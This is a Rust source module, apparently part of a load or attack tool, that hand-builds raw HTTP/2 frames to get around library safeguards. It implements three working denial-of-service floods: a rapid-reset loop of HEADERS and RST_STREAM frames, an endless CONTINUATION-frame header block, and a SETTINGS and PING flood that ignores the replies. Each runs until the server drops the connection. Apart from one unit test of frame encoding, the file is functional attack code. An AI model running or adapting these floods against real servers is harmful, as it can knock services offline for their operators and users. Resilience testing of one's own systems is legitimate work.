//! Frames of HTTP/2, made by hand: libraries refuse to send what is tried here.

use super::crowd::Seen;
use std::sync::atomic::Ordering;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;
const END_STREAM: u8 = 1;
/// `:method GET`, `:path /`, `:scheme http` from the static table; `:authority a` as a literal.
const HEAD: &[u8] = &[0x82, 0x84, 0x86, 0x01, 0x01, b'a'];
/// So many frames at once.
const BATCH: u32 = 50;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    let mut out = length.get(1..).unwrap_or_default().to_vec();
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

async fn hello(socket: &mut TcpStream) -> std::io::Result<()> {
    socket.write_all(PREFACE).await?;
    socket.write_all(&frame(SETTINGS, 0, 0, &[])).await
}

/// Reads what is there; true when the connection was closed.
async fn is_closed(socket: &mut TcpStream) -> bool {
    let mut some = vec![0; 16 << 10];
    matches!(tokio::time::timeout(Duration::from_millis(5), socket.read(&mut some)).await, Ok(Ok(0) | Err(_)))
}

/// Opens streams and takes them back at once, until it is cut off.
pub async fn reset(socket: &mut TcpStream, seen: &Seen) -> std::io::Result<()> {
    hello(socket).await?;
    let mut stream = 1;
    while !seen.is_over() && !is_closed(socket).await {
        let mut batch = Vec::new();
        for _ in 0..BATCH {
            batch.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, HEAD));
            batch.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
            stream += 2;
        }
        socket.write_all(&batch).await?;
        seen.sent.fetch_add(u64::from(BATCH), Ordering::Relaxed);
    }
    Ok(())
}

/// Begins a head and never ends it.
pub async fn continue_for_ever(socket: &mut TcpStream, seen: &Seen) -> std::io::Result<()> {
    hello(socket).await?;
    socket.write_all(&frame(HEADERS, 0, 1, HEAD)).await?;
    // A literal field of 1,000 bytes that is not kept in the table.
    let mut field = vec![0x00, 0x01, b'x', 0x7f, 0xe9, 0x06];
    field.extend(vec![b'y'; 1000]);
    while !seen.is_over() && !is_closed(socket).await {
        let batch: Vec<u8> = (0..BATCH).flat_map(|_| frame(CONTINUATION, 0, 1, &field)).collect();
        socket.write_all(&batch).await?;
        seen.sent.fetch_add(u64::from(BATCH), Ordering::Relaxed);
    }
    Ok(())
}

/// Sends settings and pings, and takes no answer: they must not pile up.
pub async fn settle_for_ever(socket: &mut TcpStream, seen: &Seen) -> std::io::Result<()> {
    hello(socket).await?;
    while !seen.is_over() {
        let mut batch = Vec::new();
        for _ in 0..BATCH {
            // A table of no size, and of its usual one again.
            batch.extend(frame(SETTINGS, 0, 0, &[0, 1, 0, 0, 0, 0]));
            batch.extend(frame(PING, 0, 0, &[7; 8]));
        }
        let wrote = tokio::time::timeout(Duration::from_secs(2), socket.write_all(&batch)).await;
        match wrote {
            Ok(done) => done?,
            // It reads no more before we do: that is the answer.
            Err(_) => return Ok(()),
        }
        seen.sent.fetch_add(u64::from(BATCH) * 2, Ordering::Relaxed);
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_has_its_length_kind_flags_and_stream() {
        assert_eq!(frame(RST_STREAM, 0, 3, &[0, 0, 0, 8]), [0, 0, 4, 3, 0, 0, 0, 0, 3, 0, 0, 0, 8]);
    }
}
